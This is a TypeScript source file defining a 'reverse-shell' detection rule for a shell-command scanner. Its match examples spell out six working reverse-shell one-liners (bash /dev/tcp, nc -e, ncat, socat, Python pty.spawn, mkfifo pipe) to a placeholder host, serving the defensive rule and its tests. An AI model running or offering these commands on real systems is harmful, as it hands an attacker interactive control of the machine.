import { defineRule, everyCommand } from '../define-rule.ts';
import { inlineCode } from '../shell/inline-code.ts';
import { SHELLS } from '../shell/wrappers.ts';

/** A shell whose input and output are a network connection. */
export const reverseShell = defineRule({
  id: 'reverse-shell',
  category: 'remote-execution',
  severity: 'critical',
  examples: {
    match: [
      'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
      'nc -e /bin/sh 198.51.100.7 4444',
      'ncat 198.51.100.7 4444 --exec /bin/bash',
      'socat TCP:198.51.100.7:4444 EXEC:/bin/sh',
      "python3 -c \"import socket,os,pty; s=socket.socket(); s.connect(('198.51.100.7',4444)); os.dup2(s.fileno(),0); pty.spawn('sh')\"",
      'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f',
    ],
    pass: [
      'nc -zv db 5432',
      'bash -i',
      'socat - TCP:localhost:5432',
      'python3 -c "import socket; print(socket.gethostname())"',
      "echo 'bash -i >& /dev/tcp/x/1'",
      'ssh -t host bash',
    ],
  },
  judge: everyCommand((command) => {
    const { program, args } = command;
    const texts = args.map((word) => word.text);
    const connects = command.redirects.some((one) =>
      /^\/dev\/(?:tcp|udp)\//.test(one.target?.text ?? ''),
    );
    if (connects && (SHELLS.has(program) || program === 'exec'))
      return program === 'exec' ? 'high' : true;
    if (/^(?:nc|ncat|netcat|nc\.traditional)$/.test(program)) {
      if (texts.some((text) => /^(?:-[a-zA-Z]*[ec]|--exec|--sh-exec)(?:=.*)?$/.test(text)))
        return true;
      return command.upstream.some(
        (one) => SHELLS.has(one.program) && !one.args.some((word) => /^-\w*c$/.test(word.text)),
      );
    }
    if (program === 'socat')
      return (
        texts.some((text) => /^(?:exec|system):/i.test(text)) &&
        texts.some((text) => /^(?:tcp|udp|openssl|ssl)/i.test(text))
      );
    const code = inlineCode(command)?.text;
    if (code === undefined) return undefined;
    return (
      /socket|TCPSocket|net\.(?:connect|Socket|createConnection)|fsockopen/i.test(code) &&
      /dup2|pty\.spawn|\/bin\/(?:ba|z)?sh|exec\s*\(?["']sh|subprocess\.(?:call|Popen|run)\(\s*\[?["'](?:\/bin\/)?(?:ba)?sh/.test(
        code,
      )
    );
  }),
});
